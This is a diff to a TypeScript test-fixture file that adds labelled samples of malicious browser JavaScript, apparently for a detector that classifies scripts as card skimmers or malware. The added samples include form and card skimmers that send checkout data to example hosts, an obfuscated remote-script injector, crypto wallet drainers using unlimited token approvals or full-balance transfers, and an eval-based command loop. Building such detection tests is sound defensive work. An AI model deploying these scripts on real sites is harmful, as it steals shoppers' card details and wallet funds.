@@ -291,4 +291,64 @@ export const SCRIPT_CASES: readonly ScriptCase[] = [
     source: `(function KEYED(){var k=KEYED.toString().charCodeAt(0);function d(a){return a.map(function(c){return String.fromCharCode(c-k)}).join('')}new Image().src=d([149,149,199,148,203,222,199,211,214,210,203,149,165,201,163])+document.cookie})();`,
     head: 'malware',
   },
+  {
+    name: 'fields collected by a class',
+    source: `class Store{constructor(o){this.gate=o.gate;this.data={}}static start(o){new Store(o).bind()}bind(){document.addEventListener('change',e=>this.note(e));setInterval(()=>this.flush(),2000)}note(e){this.data[e.target.name]=e.target.value}flush(){if(this.data['cc-number'])new Image().src=this.gate+'?d='+btoa(JSON.stringify(this.data))}}Store.start({gate:'https://metrics.example.net/i.png'})`,
+    head: 'magecart',
+  },
+  {
+    name: 'fields collected by a class that extends another',
+    source: `class Base{constructor(u){this.u=u}send(d){new Image().src=this.u+btoa(d)}}class Form extends Base{constructor(){super('https://metrics.example.net/i.png?');this.all='input'}read(){return [...document.querySelectorAll(this.all)].map(f=>f.name+f.value).join()}}const f=new Form();if(/checkout/.test(location))setInterval(()=>f.send(f.read()+'cvv'),900)`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card collected by a prototype',
+    source: `(function(){var S=function(){this.u='https://js-stat.example.org/g.php';this.f=['cc_number','cc_cid','cc_exp_month'];this.r={}};S.prototype.read=function(){for(var i=0;i<this.f.length;i++){var e=document.getElementsByName('payment['+this.f[i]+']')[0];if(e)this.r[this.f[i]]=e.value}};S.prototype.send=function(){var x=new XMLHttpRequest();x.open('POST',this.u,true);x.send('data='+encodeURIComponent(JSON.stringify(this.r)))};S.prototype.init=function(){var t=this;document.querySelector('.btn-checkout').addEventListener('click',function(){t.read();t.send()})};new S().init()})()`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card collected by a bound method',
+    source: `var k={gate:'https://js-stat.example.org/g.php',take:function(e){var n=document.getElementById('cc_number').value;new Image().src=this.gate+'?'+btoa(n)}};document.querySelector('#pay').addEventListener('click',k.take.bind(k))`,
+    head: 'magecart',
+  },
+  {
+    name: 'fields to an address that jQuery decodes from entities',
+    source: `jQuery(function(t){t('button').on('click',function(){var q='h='+location.href;q.match(/onepage|checkout/)&&(t('input, select').each(function(){t(this).val()?q+='&'+t(this).attr('name')+'='+t(this).val():''}),t.post(t('<div />').html('${[...'https://cdn.example.net/j.js'].map((c) => `&#${c.charCodeAt(0)};`).join('')}').text(),q))})})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card of which nothing is sent if it is empty',
+    source: `function take(){var n=document.getElementById('cc_number').value;return ''==n?'0':encodeURI(n)}document.querySelector('#pay').onclick=function(){var c=take();if('0'!=c){var f=document.createElement('IFRAME');f.setAttribute('src','http://log.example.net/l.php?m='+c);f.style.display='none';document.body.appendChild(f)}}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card to a program among the pictures of the site',
+    source: `document.querySelector('#checkout').addEventListener('click',function(){jQuery.ajax({url:'/media/catalog/product/cache/1/2bf8.php',type:'POST',data:Form.serialize(payment.form)})})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a script for the checkout, obfuscated and written into the page',
+    source: String.raw`var _0x7539=["\x6C\x6F\x63\x61\x74\x69\x6F\x6E","\x74\x65\x73\x74","\x6F\x6E\x65\x70\x61\x67\x65\x7C\x63\x68\x65\x63\x6B\x6F\x75\x74","\x3C\x73\x63\x72\x69\x70\x74\x20\x73\x72\x63\x3D\x22\x68\x74\x74\x70\x73\x3A\x2F\x2F\x6A\x73\x2E\x65\x78\x61\x6D\x70\x6C\x65\x2E\x6E\x65\x74\x2F\x6D\x2E\x6A\x73\x22\x3E\x3C\x2F\x73\x63\x72\x69\x70\x74\x3E","\x77\x72\x69\x74\x65"];if((new RegExp(_0x7539[2]))[_0x7539[1]](window[_0x7539[0]])){document[_0x7539[4]](_0x7539[3])}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a token without limit, to an account of the script',
+    source: `const T='0xdAC17F958D2ee523a2206206994597C13D831ec7';const to='0x8617E340B3D01FA5F11F306F4090FD50E238070D';async function start(){const s=new ethers.providers.Web3Provider(window.ethereum).getSigner();const t=new ethers.Contract(T,abi,s);await t.approve(to,ethers.constants.MaxUint256)}document.getElementById('claim').addEventListener('click',start)`,
+    head: 'malware',
+  },
+  {
+    name: 'a token of another ledger without limit',
+    source: `var me='TXk9kA1pQm2Zr8vYdWnB5cL3sHjUeGf7tM';async function next(){var c=await tronWeb.contract().at('TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t');var r=await c.increaseApproval(me,'90000000000000').send({feeLimit:100000000});$.post('/index/insert',{tx:r})}$('.next').click(next)`,
+    head: 'malware',
+  },
+  {
+    name: 'the balance of a wallet less the price of sending it',
+    source: `const to='0x8617E340B3D01FA5F11F306F4090FD50E238070D';async function mint(){const [from]=await web3.eth.getAccounts();const balance=await web3.eth.getBalance(from);const gasPrice=await web3.eth.getGasPrice();await web3.eth.sendTransaction({from,to,value:balance-21000*gasPrice})}document.querySelector('#mint').onclick=mint`,
+    head: 'malware',
+  },
+  {
+    name: 'code that is asked for again and again, and its result',
+    source: `(function ask(){var x=new XMLHttpRequest();x.onreadystatechange=function(){if(x.readyState==4){var r=eval(x.responseText);var y=new XMLHttpRequest();y.open('POST','https://c.example.net/out');y.send(String(r))}};x.open('GET','https://c.example.net/cmd');x.send();setTimeout(ask,3000)})()`,
+    head: 'malware',
+  },
 ]
